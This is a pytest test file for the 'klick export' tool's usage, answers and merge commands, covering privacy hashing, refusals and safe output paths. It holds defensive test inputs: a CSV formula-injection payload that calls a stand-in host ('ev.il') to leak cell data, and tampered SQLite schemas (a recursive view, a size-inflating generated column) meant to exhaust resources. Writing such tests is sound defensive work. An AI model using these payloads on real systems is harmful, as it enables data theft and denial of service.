"""`klick export usage|answers|merge` on real SQLite files: privacy, refusals, read-only sources."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import sqlite3
import textwrap
import tracemalloc
import types
from pathlib import Path

import pytest
from click.testing import CliRunner

from klick.cli import cli
from klick.export import TABLES, Window, card_hasher, export_rows, open_usage_db, write_csv
from klick.feedback import Feedback
from klick.questionnaire import load_questionnaire
from klick.usage import SCHEMA_VERSION, UsageLog

REPO = Path(__file__).resolve().parent.parent
T0 = 1772452800.0  # 2026-03-02 12:00 UTC
ANNA, NEWS = "04A2B3C4D5E680", "04B1C2D3E4F501"
CARDS = textwrap.dedent(f"""\
    version: 1
    cards:
      - uid: "{ANNA}"
        label: Anna Andersson
        action: {{type: video_call, provider: jitsi, server: "https://meet.example.se", room: familjen-andersson}}
      - uid: "{NEWS}"
        label: Rapport
        action: {{type: svt_play, program: /rapport}}
""")


def make_device_db(path: Path, device: str, days: int = 3, start: float = T0) -> Path:
    """A device's usage database with card uses, a failure with a URL, reader outages and answers."""
    t = [start]
    clock = lambda: t[0]  # noqa: E731
    log = UsageLog.open(path, device=device, enrolled=True, retention_days=365, now=clock)
    fb = Feedback(log, load_questionnaire(REPO / "config" / "questionnaire.yaml"), now=clock, tz=dt.UTC)
    log.record("reader_status", outcome="connected")
    for day in range(days):
        t[0] = start + day * 86400
        for uid, kind, minutes in ((ANNA, "video_call", 12), (NEWS, "svt_play", 30)):
            log.record("card_present", uid=uid, action_type=kind)
            log.record("action_started", uid=uid, action_type=kind)
            t[0] += minutes * 60
            log.record("card_removed", uid=uid)
            log.flush()  # the questionnaire reads the uses from the file
            p = fb.next_prompt(False)
            while p is not None:
                fb.shown(p.id)
                value = p.options[0].value if p.options else "Ljudet var för svagt"
                p = fb.answer(p.id, value) or fb.next_prompt(False)
        log.record(
            "action_failed",
            uid=ANNA,
            action_type="video_call",
            detail="https://meet.example.se/familjen-andersson did not answer",
        )
        log.record("reader_status", outcome="lost", detail="USB reader unplugged")
        t[0] += 300
        log.record("reader_status", outcome="connected")
    log.close()
    return path


@pytest.fixture
def home(klick_home):
    (klick_home / "klick.yaml").write_text(
        'pilot:\n  enrolled: true\n  device_name: hbg-07\n  export_key: "the pilot secret 2026"\n'
    )
    (klick_home / "cards.yaml").write_text(CARDS)
    make_device_db(klick_home / "usage.db", "hbg-07")
    return klick_home


def run(*args):
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result


def digest(path: Path) -> str:
    """The database's content: the main file and its WAL (the -shm file is SQLite's lock table)."""
    h = hashlib.sha256()
    for p in (path, path.with_name(path.name + "-wal")):
        if p.exists():
            h.update(p.name.encode() + p.read_bytes())
    return h.hexdigest()


def test_csv_has_no_raw_uid_and_no_label(home):
    result = run("export", "usage", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    text = result.stdout
    assert ANNA not in text and NEWS not in text
    assert "Anna" not in text and "Rapport" not in text
    assert "meet.example.se" not in text  # free-text detail with a URL is left out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0].keys() == {"device", "src_id", "at", "kind", "card", "action_type", "outcome", "detail"}
    hashed = card_hasher("the pilot secret 2026")
    assert {r["card"] for r in rows if r["kind"] == "card_present"} == {hashed(ANNA), hashed(NEWS)}
    assert all(r["device"] == "hbg-07" for r in rows)
    assert any(r["detail"] == "USB reader unplugged" for r in rows)  # reader health stays


def test_include_personal_has_uid_and_label(home):
    result = run("export", "usage", "--format", "csv", "--include-personal")
    assert result.exit_code == 0, result.stderr
    assert ANNA in result.stdout and "Anna Andersson" in result.stdout and "Rapport" in result.stdout
    assert "meet.example.se" in result.stdout


def test_the_same_card_hashes_the_same_on_every_device_but_not_with_another_key():
    a, b, other = card_hasher("pilot key one, long"), card_hasher("pilot key one, long"), card_hasher("pilot key two, long")
    assert a(ANNA) == b(ANNA) != other(ANNA)
    assert a(ANNA) != a(NEWS) and ANNA not in a(ANNA)


def test_sessions_and_json(home):
    result = run("export", "usage", "--format", "json", "--table", "sessions")
    assert result.exit_code == 0, result.stderr
    rows = json.loads(result.stdout)
    assert len(rows) == 6 and {r["action_type"] for r in rows} == {"video_call", "svt_play"}
    assert sorted({round(r["duration_s"]) for r in rows}) == [720, 1800]
    answers = json.loads(run("export", "answers", "--format", "json").stdout)
    assert {a["question_id"] for a in answers} >= {"how_did_it_go", "anything_difficult", "what_was_difficult"}
    assert all(a["text"] is None for a in answers)  # written answers stay home by default
    assert ANNA not in json.dumps(answers)


def test_free_text_answers_leave_only_with_include_free_text(home, tmp_path):
    words = "Ljudet var för svagt"
    for fmt in ("csv", "json"):
        result = run("export", "answers", "--format", fmt)
        assert result.exit_code == 0 and words not in result.stdout
        result = run("export", "answers", "--format", fmt, "--include-personal")  # personal is not free text
        assert result.exit_code == 0 and words not in result.stdout
        result = run("export", "answers", "--format", fmt, "--include-free-text")
        assert result.exit_code == 0 and words in result.stdout
    out = tmp_path / "a.sqlite"
    result = run("export", "answers", "--format", "sqlite", "--out", str(out))
    assert result.exit_code == 0 and "written answers left out" in result.stderr
    assert words.encode() not in out.read_bytes()
    assert dict(sqlite3.connect(out).execute("SELECT key, value FROM meta"))["free_text"] == "0"
    result = run("export", "answers", "--format", "sqlite", "--out", str(out), "--include-free-text")
    assert result.exit_code == 0 and "with written answers" in result.stderr
    assert words.encode() in out.read_bytes()


def test_a_short_export_key_is_refused_with_how_to_make_a_good_one(home):
    (home / "klick.yaml").write_text('pilot:\n  enrolled: true\n  export_key: "hemligt123"\n')
    for args in (["usage"], ["answers", "--format", "json"]):
        result = run("export", *args)
        assert result.exit_code == 2 and result.stdout == ""
        assert "klick.yaml:3: pilot.export_key is 10 characters long; a pilot key needs at least 16" in result.stderr
        assert 'python3 -c "import secrets; print(secrets.token_urlsafe(24))"' in result.stderr
    (home / "klick.yaml").write_text('pilot:\n  enrolled: true\n  export_key: "0123456789abcdef"\n')
    assert run("export", "usage").exit_code == 0


def test_dates_select_whole_days(home, tmp_path):
    out = tmp_path / "one-day.csv"
    result = run("export", "usage", "--since", "2026-03-03", "--until", "2026-03-03", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    days = {r["at"][:10] for r in csv.DictReader(out.open())}
    assert days == {"2026-03-03"}
    assert "Wrote" in result.stderr and "keyed hashes" in result.stderr


@pytest.mark.parametrize(
    "args, words",
    [
        (["--since", "yesterday"], "--since must be a date written like 2026-03-01, not 'yesterday'."),
        (["--until", "2026-02-30"], "--until must be a date"),
        (["--since", "2026-03-05", "--until", "2026-03-01"], "--until (2026-03-01) is before --since (2026-03-05)"),
    ],
)
def test_bad_dates_are_one_sentence_and_exit_2(home, args, words):
    result = run("export", "usage", *args)
    assert result.exit_code == 2
    assert words in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert result.stdout == ""


def test_missing_export_key(klick_home):
    (klick_home / "klick.yaml").write_text("pilot:\n  enrolled: true\n")
    make_device_db(klick_home / "usage.db", "x", days=1)
    result = run("export", "usage")
    assert result.exit_code == 2
    assert result.stderr.startswith("Set pilot.export_key in klick.yaml")


def test_foreign_missing_and_newer_sources(home, tmp_path):
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"not sqlite at all\n" * 100)
    result = run("export", "usage", "--db", str(junk))
    assert result.exit_code == 1 and "is not a Klick database" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    result = run("export", "usage", "--db", str(tmp_path / "nothing.db"))
    assert result.exit_code == 1 and "does not exist" in result.stderr
    assert not (tmp_path / "nothing.db").exists()
    newer = tmp_path / "newer.db"
    make_device_db(newer, "y", days=1)
    conn = sqlite3.connect(newer)
    conn.execute(f"PRAGMA user_version={SCHEMA_VERSION + 1}")
    conn.close()
    result = run("export", "answers", "--db", str(newer))
    assert result.exit_code == 1 and "newer Klick" in result.stderr


def test_export_never_changes_the_source(home, tmp_path):
    source = home / "usage.db"
    # The launcher is running: the database is open, with a WAL file holding recent rows.
    writer = UsageLog.open(source, device="hbg-07", enrolled=True, retention_days=365, now=lambda: T0 + 10 * 86400)
    writer.record("card_present", uid=ANNA, action_type="video_call")
    assert writer.flush()
    before = digest(source)
    for args in (
        ["usage", "--format", "csv", "--out", str(tmp_path / "u.csv")],
        ["usage", "--format", "json", "--out", str(tmp_path / "u.json"), "--include-personal"],
        ["usage", "--format", "sqlite", "--out", str(tmp_path / "u.sqlite")],
        ["answers", "--format", "sqlite", "--out", str(tmp_path / "a.sqlite")],
    ):
        assert run("export", *args).exit_code == 0
    assert digest(source) == before
    # ...and the export saw the row still in the WAL.
    assert ANNA in (tmp_path / "u.json").read_text()
    writer.close()
    result = run("export", "usage", "--format", "sqlite", "--out", str(source))
    assert result.exit_code == 2 and "is the database being exported" in result.stderr


def export_device(home: Path, db: Path, folder: Path, name: str) -> list[Path]:
    u, a = folder / f"{name}-usage.sqlite", folder / f"{name}-answers.sqlite"
    assert run("export", "usage", "--db", str(db), "--format", "sqlite", "--out", str(u)).exit_code == 0
    assert run("export", "answers", "--db", str(db), "--format", "sqlite", "--out", str(a)).exit_code == 0
    return [u, a]


def test_merge_keeps_devices_and_ignores_repeats(home, tmp_path):
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    other = make_device_db(tmp_path / "other.db", "hbg-12", days=2)
    files += export_device(home, other, tmp_path, "hbg-12")
    out = tmp_path / "PILOT.sqlite"
    result = run("export", "merge", *map(str, files), str(files[0]), "--out", str(out))
    assert result.exit_code == 0, result.stderr
    conn = sqlite3.connect(out)
    per_device = dict(conn.execute("SELECT device, count(*) FROM sessions GROUP BY device"))
    assert per_device == {"hbg-07": 6, "hbg-12": 4}
    assert conn.execute("SELECT count(*) FROM answers").fetchone()[0] > 0
    meta = dict(conn.execute("SELECT key, value FROM meta"))
    assert meta["devices"] == "hbg-07,hbg-12" and meta["contents"] == "answers+usage" and meta["personal"] == "0"
    hashed = card_hasher("the pilot secret 2026")(ANNA)
    assert {r[0] for r in conn.execute("SELECT DISTINCT device FROM events WHERE card = ?", (hashed,))} == {"hbg-07", "hbg-12"}
    assert ANNA.encode() not in out.read_bytes()


def test_merge_refuses_mismatched_schema(home, tmp_path):
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    conn = sqlite3.connect(files[1])
    conn.execute("UPDATE meta SET value='2' WHERE key='export_schema'")
    conn.commit()
    conn.close()
    out = tmp_path / "PILOT.sqlite"
    result = run("export", "merge", *map(str, files), "--out", str(out))
    assert result.exit_code == 1
    assert "export format 2; this Klick reads format 1" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not out.exists()


def test_merge_refuses_foreign_files_usage_dbs_and_other_keys(home, tmp_path):
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    out = tmp_path / "PILOT.sqlite"
    junk = tmp_path / "photo.jpg"
    junk.write_bytes(b"\xff\xd8\xff\xe0" + b"\0" * 2000)
    for bad, words in ((junk, "is not a Klick database"), (home / "usage.db", "is a device's usage database, not an export")):
        result = run("export", "merge", str(files[0]), str(bad), "--out", str(out))
        assert result.exit_code == 1 and words in result.stderr, result.stderr
        assert not out.exists()
    (home / "klick.yaml").write_text('pilot:\n  export_key: "another pilot key, long"\n')
    other = export_device(home, home / "usage.db", tmp_path, "other-key")
    result = run("export", "merge", str(files[0]), str(other[0]), "--out", str(out))
    assert result.exit_code == 1 and "different pilot.export_key" in result.stderr
    result = run("export", "merge", str(files[0]), "--out", str(files[0]))
    assert result.exit_code == 2 and "is one of the files to merge; choose another file name" in result.stderr


def test_rows_are_streamed_not_held(tmp_path):
    path = tmp_path / "big.db"
    log = UsageLog.open(path, device="big", enrolled=True, retention_days=3650, now=lambda: T0)
    uids = [f"04{n:012X}" for n in range(50)]
    log.record_many((("card_present", uids[i % 50], "web", None, "x" * 40, T0 + i) for i in range(40_000)), batch=10_000)
    log.close()
    conn = open_usage_db(path)
    columns, total, rows = export_rows(conn, "events", Window(), card_hasher("a long enough pilot key"))
    assert total == 40_000 and isinstance(rows, types.GeneratorType)
    sink = io.StringIO()
    tracemalloc.start()
    n = write_csv(columns, rows, _Discard())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    conn.close()
    assert n == 40_000
    # 40,000 rows held at once would take well over 10 MB; one batch at a time is a few MB.
    assert peak < 6_000_000, peak
    del sink


class _Discard(io.TextIOBase):
    def write(self, s: str) -> int:
        return len(s)


def test_every_table_names_its_columns():
    for table in TABLES.values():
        assert "card" in table.columns and "device" in table.columns


def test_progress_bar_only_on_a_terminal(home, tmp_path):
    """On a terminal the tester sees a bar; in a pipe or a log file there is none."""
    import os
    import pty
    import subprocess
    import sys

    klick = str(Path(sys.executable).parent / "klick")
    args = [klick, "export", "usage", "--out", str(tmp_path / "u.csv")]
    piped = subprocess.run(args, capture_output=True, text=True, env=os.environ.copy(), timeout=60)
    assert piped.returncode == 0 and "Exporting" not in piped.stderr
    master, slave = pty.openpty()
    proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=slave, env=os.environ.copy())
    os.close(slave)
    seen = b""
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    os.close(master)
    assert proc.wait(timeout=60) == 0
    assert b"Exporting events" in seen and b"Wrote" in seen


# --- merge takes only what an export is (issue 10, item 16) --------------------------------------

RECURSIVE_VIEW = """
    DROP TABLE events;
    CREATE VIEW events AS WITH RECURSIVE r(device, src_id, at, kind, card, action_type, outcome, detail, uid, label) AS (
        SELECT 'x', 1, '2026-03-02T12:00:00.000Z', 'card_present', NULL, NULL, NULL, NULL, NULL, NULL
        UNION ALL SELECT device, src_id + 1, at, kind, card, action_type, outcome, detail, uid, label FROM r)
    SELECT * FROM r;
"""


def tampered(path: Path, sql: str) -> Path:
    conn = sqlite3.connect(path)
    conn.executescript(sql)
    conn.commit()
    conn.close()
    return path


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") or p.name.endswith((".tmp", "-journal")))


def test_merge_refuses_a_recursive_view_at_once_and_leaves_no_temp_file(home, tmp_path):
    import subprocess
    import time

    from tests.conftest import KLICK

    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    tampered(files[0], RECURSIVE_VIEW)
    out = tmp_path / "PILOT.sqlite"
    started = time.monotonic()
    result = subprocess.run(
        [KLICK, "export", "merge", *map(str, files), "--out", str(out)], capture_output=True, text=True, timeout=60
    )
    assert time.monotonic() - started < 30  # was: never ends, 1.9 GB in 60 s
    assert result.returncode == 1 and "holds 'events' as a view, not a table" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert not out.exists() and leftovers(tmp_path) == []
    result = subprocess.run(
        [KLICK, "report", str(files[0]), "--out", str(tmp_path / "r.html")], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 1 and "as a view, not a table" in result.stderr


@pytest.mark.parametrize(
    "sql, words",
    [
        ("ALTER TABLE events ADD COLUMN extra TEXT", "its events table does not have the columns of a Klick export"),
        (
            "CREATE TABLE s2 AS SELECT * FROM sessions; DROP TABLE sessions;"
            " CREATE TABLE sessions(device TEXT, src_id BLOB, card TEXT, action_type TEXT, started_at TEXT, ended_at TEXT,"
            " duration_s REAL, end_reason TEXT, uid TEXT, label TEXT)",
            "its sessions table does not have the columns",
        ),
        ("DROP TABLE answers; CREATE VIRTUAL TABLE answers USING rtree(id, a, b)", "holds 'answers' as a virtual table"),
        ("UPDATE events SET at = '2026-02-30T12:00:00.000Z' WHERE rowid = 3", "row 3 of its events table has a value"),
        ("UPDATE events SET at = 'yesterday' WHERE rowid = 2", "row 2 of its events table"),
        ("UPDATE sessions SET ended_at = '0000-01-01T00:00:00.000Z' WHERE rowid = 1", "row 1 of its sessions table"),
        ("UPDATE sessions SET duration_s = 'long' WHERE rowid = 1", "text where a number belongs"),
        ("UPDATE events SET kind = x'00ff' WHERE rowid = 1", "row 1 of its events table"),
        # A 53 kB file once merged into 4 GB: its label was computed, 200 MB a row (here 1 kB).
        (
            "CREATE TABLE e2 AS SELECT * FROM events; DROP TABLE events;"
            " CREATE TABLE events(device TEXT NOT NULL, src_id INTEGER NOT NULL, at TEXT NOT NULL, kind TEXT NOT NULL,"
            " card TEXT, action_type TEXT, outcome TEXT, detail TEXT, uid TEXT,"
            " label TEXT GENERATED ALWAYS AS (printf('%.*c', 1000, 'x')) VIRTUAL);"
            " INSERT INTO events(device, src_id, at, kind, card, action_type, outcome, detail, uid)"
            " SELECT device, src_id, at, kind, card, action_type, outcome, detail, uid FROM e2; DROP TABLE e2",
            "its events table has columns computed from a formula (label)",
        ),
    ],
)
def test_merge_refuses_tables_and_rows_no_export_has(home, tmp_path, sql, words):
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    tampered(files[0], sql)
    out = tmp_path / "PILOT.sqlite"
    result = run("export", "merge", *map(str, files), "--out", str(out))
    assert result.exit_code == 1 and words in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not out.exists() and leftovers(tmp_path) == []


def test_merge_caps_rows_per_file(home, tmp_path):
    from klick.export import MAX_ROWS_PER_FILE, ExportError, merge

    assert MAX_ROWS_PER_FILE == 10_000_000
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    with pytest.raises(ExportError, match=r"holds [\d,]+ rows, more than the 10 one file may bring to a merge"):
        merge(files, tmp_path / "PILOT.sqlite", max_rows=10)
    assert leftovers(tmp_path) == [] and not (tmp_path / "PILOT.sqlite").exists()


def big_export(path: Path, rows: int) -> Path:
    from klick.export import create_export_db, key_check

    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute("BEGIN")
    create_export_db(
        conn, {"contents": "usage", "personal": "0", "key_check": key_check("the pilot secret 2026"), "devices": "big"}
    )
    conn.executemany(
        "INSERT INTO events(device, src_id, at, kind, card, action_type) VALUES ('big', ?, '2026-03-02T12:00:00.000Z', 'card_present', 'c1', 'web')",
        ((i,) for i in range(rows)),
    )
    conn.execute("COMMIT")
    conn.close()
    return path


@pytest.mark.parametrize("signame", ["SIGTERM", "SIGINT"])
def test_merge_stopped_by_a_signal_removes_its_temp_file(tmp_path, signame):
    import shutil
    import signal
    import subprocess
    import time

    from tests.conftest import KLICK

    first = big_export(tmp_path / "d0.sqlite", 300_000)
    files = [first] + [shutil.copy(first, tmp_path / f"d{n}.sqlite") for n in range(1, 8)]
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    proc = subprocess.Popen(
        [KLICK, "export", "merge", *map(str, files), "--out", str(out_dir / "PILOT.sqlite")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not leftovers(out_dir) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    assert leftovers(out_dir), "the merge finished before it could be stopped; make the files bigger"
    time.sleep(0.2)  # into the copying
    proc.send_signal(getattr(signal, signame))
    _, err = proc.communicate(timeout=30)
    assert proc.returncode != 0 and "Traceback" not in err
    assert leftovers(out_dir) == [] and not (out_dir / "PILOT.sqlite").exists()  # was: a hidden .PILOT.sqlite.*.tmp


# --- where an export may be written, and what a spreadsheet makes of it (attack2) ----------------


def _out_refusals(home: Path, tmp_path: Path, target: Path) -> list[tuple[list[str], object]]:
    """Every command with an --out, pointed at ``target``."""
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    commands = [
        ["export", "usage", "--format", "csv", "--out", str(target)],
        ["export", "usage", "--format", "sqlite", "--out", str(target)],
        ["export", "answers", "--format", "json", "--out", str(target)],
        ["export", "merge", *map(str, files), "--out", str(target)],
        ["report", str(files[0]), "--out", str(target)],
        ["cards", "print", "--out", str(target)],
        ["cards", "pack", "--out", str(target)],
    ]
    return [(args, run(*args)) for args in commands]


def test_out_never_replaces_a_device_or_a_pipe(home, tmp_path):
    """As root, `--out /dev/full` replaced the system's /dev/full with a plain file (tried with a pipe here)."""
    import os
    import stat

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    for args, result in _out_refusals(home, tmp_path, pipe):
        assert result.exit_code == 2 and "is not a plain file" in result.stderr, (args, result.stderr)
        assert stat.S_ISFIFO(pipe.lstat().st_mode), args
    from klick.atomic import NotAPlainFile, write_atomic

    with pytest.raises(NotAPlainFile):
        write_atomic(pipe, b"x")
    assert stat.S_ISFIFO(pipe.lstat().st_mode)


def test_out_in_a_missing_folder_is_refused_and_makes_no_folder(home, tmp_path):
    target = tmp_path / "no" / "such" / "folder" / "out.sqlite"
    for args, result in _out_refusals(home, tmp_path, target):
        assert result.exit_code == 2 and f"the folder {target.parent} does not exist" in result.stderr, (args, result.stderr)
    assert not (tmp_path / "no").exists()


def test_out_never_replaces_the_settings_the_card_file_or_the_questionnaire(home, tmp_path):
    (home / "questionnaire.yaml").write_text((REPO / "config" / "questionnaire.yaml").read_text())
    for name, words in (
        ("klick.yaml", "Klick's settings file"),
        ("cards.yaml", "the card file"),
        ("questionnaire.yaml", "the questionnaire"),
    ):
        before = (home / name).read_bytes()
        result = run("export", "usage", "--format", "sqlite", "--out", str(home / name))
        assert result.exit_code == 2 and f"is {words}; choose another file name" in result.stderr, result.stderr
        assert (home / name).read_bytes() == before


def test_out_never_replaces_the_wal_of_the_database_being_exported(home, tmp_path):
    """The launcher's newest events live in usage.db-wal: replacing it lost them."""
    source = home / "usage.db"
    writer = UsageLog.open(source, device="hbg-07", enrolled=True, retention_days=365, now=lambda: T0 + 10 * 86400)
    writer.record("card_present", uid=ANNA, action_type="video_call")
    assert writer.flush()
    wal = home / "usage.db-wal"
    assert wal.stat().st_size > 0
    before = digest(source)
    for companion in ("usage.db-wal", "usage.db-shm"):
        result = run("export", "usage", "--format", "sqlite", "--out", str(home / companion))
        assert result.exit_code == 2 and "is part of the database being exported" in result.stderr, result.stderr
    assert digest(source) == before
    writer.close()
    files = export_device(home, source, tmp_path, "hbg-07")
    result = run("report", str(files[0]), "--out", str(files[0]) + "-journal")
    assert result.exit_code == 2 and "is part of the file the report is made from" in result.stderr


def test_csv_cells_a_spreadsheet_would_run_as_a_formula_are_written_as_text(home):
    evil = '=HYPERLINK("http://ev.il/?"&A1,"Hej")'  # a label is at most 40 letters
    (home / "cards.yaml").write_text(CARDS.replace("Anna Andersson", f"'{evil}'"))
    result = run("export", "usage", "--format", "csv", "--include-personal")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    labels = {r["label"] for r in rows if r["uid"] == ANNA}
    assert labels == {"'" + evil}
    assert all(not r["label"].startswith(("=", "+", "-", "@")) for r in rows)
    assert all(r["src_id"].isdigit() for r in rows)  # numbers as they are
    from klick.export import spreadsheet_safe

    for cell in ("=1+1", "+46701234567", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(cell) == "'" + cell
    for cell in ("Anna", "1", "", None, 5, -3.5, "a=b"):
        assert spreadsheet_safe(cell) == cell
    # JSON keeps the text exactly: it is read by programs, not spreadsheets.
    result = run("export", "usage", "--format", "json", "--include-personal")
    assert evil in {r["label"] for r in json.loads(result.stdout)}


def test_merge_and_report_refuse_an_export_with_another_databases_wal_beside_it(home, tmp_path):
    """SQLite reads a -wal beside a file whatever wrote it: the export read as another database."""
    files = export_device(home, home / "usage.db", tmp_path, "hbg-07")
    other = sqlite3.connect(tmp_path / "other.db")
    other.execute("PRAGMA journal_mode=wal")
    other.execute("PRAGMA wal_autocheckpoint=0")
    other.execute("CREATE TABLE x(y)")
    other.commit()
    (tmp_path / (files[0].name + "-wal")).write_bytes((tmp_path / "other.db-wal").read_bytes())
    other.close()
    before = files[0].read_bytes()
    for args in (
        ["export", "merge", str(files[0]), "--out", str(tmp_path / "P.sqlite")],
        ["report", str(files[0]), "--out", str(tmp_path / "r.html")],
    ):
        result = run(*args)
        assert result.exit_code == 1, result.stderr
        assert f"{files[0].name}-wal beside it belongs to another database" in result.stderr, result.stderr
    assert files[0].read_bytes() == before and not (tmp_path / "P.sqlite").exists()


def test_an_export_read_by_a_program_that_stops_early_ends_quietly(home):
    """`klick export usage | head -1` said "Something went wrong on the disk: Broken pipe."."""
    import subprocess

    from tests.conftest import KLICK

    proc = subprocess.Popen([KLICK, "export", "usage", "--format", "csv"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # the reader is gone before the first line is written
    err = proc.stderr.read()
    assert proc.wait(timeout=60) == 1 and err == b"", err
